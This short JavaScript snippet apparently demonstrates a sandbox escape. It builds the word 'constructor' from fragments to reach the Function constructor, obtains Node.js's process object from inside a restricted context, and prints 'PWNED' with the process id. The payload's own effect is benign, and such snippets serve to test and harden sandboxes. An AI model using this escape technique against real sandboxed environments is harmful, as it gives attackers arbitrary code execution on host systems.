const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
const o = Object.assign(Object.create(Object.getPrototypeOf(new C())), new C());
console.log('PWNED', o.go(fn)('return process')().pid);
